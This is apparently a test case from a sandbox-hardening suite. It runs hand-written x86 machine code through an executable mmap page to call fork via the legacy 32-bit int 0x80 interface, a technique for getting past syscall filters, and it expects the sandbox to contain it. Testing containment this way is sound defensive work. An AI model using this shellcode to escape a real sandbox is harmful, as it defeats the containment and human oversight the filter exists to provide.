# Calls the kernel as a 32-bit program would (int 0x80): the numbers mean something else there, and filters forget about it.
# ends: contained, died
ctypes, mmap = None, None
attempts = Attempts()


def run(code):
    ctypes = grab("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x22, -1, ctypes.c_long(0))
    if at in (None, 2**64 - 1):
        raise OSError(ctypes.get_errno(), "no memory that is executable")
    ctypes.memmove(at, code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(at)()


def f(x):
    if MACHINE != "x86_64":
        return "contained: only on x86_64"
    # push rbx; mov eax, 2 (fork); int 0x80; pop rbx; ret
    attempts("fork by int 0x80", lambda: run(b"\x53\xb8\x02\x00\x00\x00\xcd\x80\x5b\xc3") > -1)
    return attempts.report()
